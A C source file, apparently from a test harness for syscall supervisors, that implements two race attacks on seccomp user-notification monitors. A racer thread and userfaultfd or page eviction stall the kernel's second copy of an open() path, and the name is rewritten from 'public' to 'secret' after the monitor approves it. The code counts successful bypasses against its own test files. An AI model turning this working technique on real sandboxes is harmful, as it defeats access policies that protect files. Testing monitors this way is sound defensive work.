/* atk_widen.c: window widening: the open() path lies across a page boundary and its first
 * page faults when the kernel copies the path again (userfaultfd, else a dropped file page). */
/*
 * The path is "dir/" at the end of page 1 and the name ("public" or
 * "secret") at the start of page 2.  A racer thread watches the attacking
 * thread's wchan: while that thread waits for the monitor's answer
 * (seccomp_do_user_notification) the racer keeps page 1 dropped; when the
 * wait ends, the decision has been made and answered, so it drops page 1
 * once more and writes the secret's name into page 2.  A monitor that let
 * the kernel copy the path again now loses if the kernel's copy stalls on
 * page 1 long enough for that write to land, and the stall is what the
 * two classes make as long as they can:
 *
 * widen-uffd: page 1 is registered with userfaultfd (missing mode).  A
 * fault on it by another process (the monitor copying the path) is served
 * at once; a fault by our own thread (the kernel copying the path for the
 * system call) is held until the handler has written the secret's name
 * into page 2, so the kernel reads it whenever page 1 was gone.  Where
 * userfaultfd is refused (policyctl run refuses it, so that a target
 * cannot stall the supervisor), the attack is widen-madvise and says so in
 * its mode.
 *
 * widen-madvise (Watson's widening of wrapper races): page 1 is a private
 * mapping of a file, dropped with MADV_DONTNEED and evicted from the page
 * cache with POSIX_FADV_DONTNEED, so the kernel's copy takes a major fault
 * (a disk read) before it reaches page 2.
 *
 * A monitor that copies the path once never sees page 2 change during its
 * decision, and acts on its own copy.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "toctou.h"

#define PAGE		4096
#define SECRET_TEXT	"SECRET-BYTES"
#define PUBLIC_TEXT	"public-bytes"

/* Attempt states: the attacker arms, the racer engages, then is done. */
enum { IDLE, ARMED, ENGAGED, DONE };

struct widen {
	char		*pages;		/* page 1 (faulting) + page 2 (name) */
	char		*path;
	int		fd;		/* madvise: the file behind page 1 */
	int		uffd;		/* userfaultfd, or -1 */
	pid_t		self;		/* the attacking thread */
	atomic_int	state;
	atomic_int	stop;
	char		*prefix;	/* uffd: the content of page 1 */
};

static void
widen_policy(const char *dir, FILE *out)
{
	fprintf(out, "  - open: filename eq \"%s/secret\" then deny[EACCES]\n",
	    dir);
}

static void
widen_setup(const char *dir)
{
	char p[PATH_MAX];

	put_file(pjoin(p, dir, "public"), PUBLIC_TEXT, 0644);
	put_file(pjoin(p, dir, "secret"), SECRET_TEXT, 0644);
}

static void
drop_page1(struct widen *w)
{
	(void)madvise(w->pages, PAGE, MADV_DONTNEED);
	if (w->fd >= 0)
		(void)posix_fadvise(w->fd, 0, PAGE, POSIX_FADV_DONTNEED);
}

static void
write_name(struct widen *w, const char *name)
{
	flip_bytes(w->pages + PAGE, name, 6);
}

/* The racer: see the description at the top. */
static void *
racer(void *arg)
{
	struct widen *w = arg;
	char wpath[64], buf[64];
	int fd, seen = 0;
	unsigned long k = 0;
	struct place pl;

	place_init(&pl, w->self);
	snprintf(wpath, sizeof(wpath), "/proc/self/task/%d/wchan", (int)w->self);
	if ((fd = open(wpath, O_RDONLY | O_CLOEXEC)) < 0)
		die("%s: %s", wpath, strerror(errno));
	while (!atomic_load(&w->stop)) {
		ssize_t n;
		int waiting;

		if ((k++ & 255) == 0)
			place_step(&pl);
		if (atomic_load(&w->state) != ARMED) {
			seen = 0;
			continue;
		}
		if ((n = pread(fd, buf, sizeof(buf) - 1, 0)) < 0)
			break;
		buf[n] = '\0';
		waiting = strncmp(buf, "seccomp_do_user_notification", 28) == 0;
		if (waiting) {
			seen = 1;
			drop_page1(w);
			continue;
		}
		if (!seen)
			continue;
		/* the wait is over: the monitor has answered */
		if (atomic_compare_exchange_strong(&w->state,
		    &(int){ ARMED }, ENGAGED)) {
			drop_page1(w);
			write_name(w, "secret");
			atomic_store(&w->state, DONE);
		}
		seen = 0;
	}
	close(fd);
	return NULL;
}

/* userfaultfd: serve page 1; a read by our own thread (the kernel's second
 * copy) only once the secret's name is in page 2. */
static void *
uffd_handler(void *arg)
{
	struct widen *w = arg;

	while (!atomic_load(&w->stop)) {
		struct pollfd pfd = { w->uffd, POLLIN, 0 };
		struct uffd_msg msg;
		struct uffdio_copy cp;

		if (poll(&pfd, 1, 50) <= 0 ||
		    read(w->uffd, &msg, sizeof(msg)) != (ssize_t)sizeof(msg) ||
		    msg.event != UFFD_EVENT_PAGEFAULT)
			continue;
		if ((pid_t)msg.arg.pagefault.feat.ptid == w->self &&
		    atomic_load(&w->state) != IDLE)
			write_name(w, "secret");
		memset(&cp, 0, sizeof(cp));
		cp.dst = (uintptr_t)w->pages;
		cp.src = (uintptr_t)w->prefix;
		cp.len = PAGE;
		(void)ioctl(w->uffd, UFFDIO_COPY, &cp);
	}
	return NULL;
}

static void
open_once(struct widen *w, struct atk_result *r)
{
	char buf[64];
	int fd, st;

	write_name(w, "public");
	atomic_store(&w->state, ARMED);
	fd = open(w->path, O_RDONLY | O_CLOEXEC);
	/* disarm, or wait for an engaged racer to finish */
	if (!atomic_compare_exchange_strong(&w->state, &(int){ ARMED }, IDLE)) {
		while ((st = atomic_load(&w->state)) == ENGAGED)
			;
		atomic_store(&w->state, IDLE);
	}
	r->attempts++;
	if (fd < 0) {
		if (errno == EACCES)
			r->denied++;
		else
			r->other++;
		return;
	}
	if (read_fd(fd, buf, sizeof(buf)) == 0 && strcmp(buf, SECRET_TEXT) == 0)
		r->wins++;
	else if (strcmp(buf, PUBLIC_TEXT) == 0)
		r->ok++;
	else
		r->other++;
	close(fd);
}

/* Lay out the two pages; page 1 from a file (madvise) or registered with
 * userfaultfd. */
static void
widen_map(struct widen *w, const char *dir)
{
	char p[PATH_MAX];
	size_t plen = strlen(dir) + 1;

	w->prefix = calloc(1, PAGE);
	w->pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (w->prefix == NULL || w->pages == MAP_FAILED)
		die("mmap: %s", strerror(errno));
	memcpy(w->prefix + PAGE - plen, dir, plen - 1);
	w->prefix[PAGE - 1] = '/';
	w->path = w->pages + PAGE - plen;
	memcpy(w->pages + PAGE, "public", 7);
	if (w->uffd >= 0) {
		struct uffdio_register reg;

		memset(&reg, 0, sizeof(reg));
		reg.range.start = (uintptr_t)w->pages;
		reg.range.len = PAGE;
		reg.mode = UFFDIO_REGISTER_MODE_MISSING;
		if (ioctl(w->uffd, UFFDIO_REGISTER, &reg) != 0)
			die("UFFDIO_REGISTER: %s", strerror(errno));
		return;
	}
	pjoin(p, dir, "page1");
	(void)unlink(p);
	if ((w->fd = open(p, O_RDWR | O_CREAT | O_CLOEXEC, 0644)) < 0 ||
	    write(w->fd, w->prefix, PAGE) != PAGE || fsync(w->fd) != 0)
		die("%s: %s", p, strerror(errno));
	if (mmap(w->pages, PAGE, PROT_READ, MAP_PRIVATE | MAP_FIXED, w->fd,
	    0) == MAP_FAILED)
		die("mmap %s: %s", p, strerror(errno));
	(void)unlink(p);
}

static void
widen_attack(const char *dir, long n, struct atk_result *r, int use_uffd)
{
	struct widen w;
	pthread_t rth, hth;
	long i;
	int e;

	memset(&w, 0, sizeof(w));
	w.fd = w.uffd = -1;
	r->mode = "madvise";
	if (use_uffd) {
		struct uffdio_api api = { .api = UFFD_API,
		    .features = UFFD_FEATURE_THREAD_ID };

		w.uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
		if (w.uffd < 0)
			/* refused (policyctl run does) or unavailable */
			r->mode = errno == EPERM ? "madvise(uffd-refused)" :
			    "madvise(no-uffd)";
		else if (ioctl(w.uffd, UFFDIO_API, &api) != 0)
			die("UFFDIO_API: %s", strerror(errno));
		else
			r->mode = "userfaultfd";
	}
	widen_map(&w, dir);
	w.self = (pid_t)syscall(SYS_gettid);
	atomic_store(&w.state, IDLE);
	atomic_store(&w.stop, 0);
	if ((e = pthread_create(&rth, NULL, racer, &w)) != 0 ||
	    (w.uffd >= 0 &&
	    (e = pthread_create(&hth, NULL, uffd_handler, &w)) != 0))
		die("pthread_create: %s", strerror(e));
	for (i = 0; i < n; i++)
		open_once(&w, r);
	atomic_store(&w.stop, 1);
	pthread_join(rth, NULL);
	if (w.uffd >= 0) {
		pthread_join(hth, NULL);
		close(w.uffd);
	}
	if (w.fd >= 0)
		close(w.fd);
	munmap(w.pages, 2 * PAGE);
	free(w.prefix);
}

static void uffd_run(const char *d, long n, struct atk_result *r) { widen_attack(d, n, r, 1); }
static void madvise_run(const char *d, long n, struct atk_result *r) { widen_attack(d, n, r, 0); }

static const struct atk_class classes[] = {
	{ "widen-uffd", widen_policy, widen_setup, uffd_run },
	{ "widen-madvise", widen_policy, widen_setup, madvise_run },
};

int
main(int argc, char **argv)
{
	return atk_main(argc, argv, classes, sizeof(classes) / sizeof(classes[0]));
}
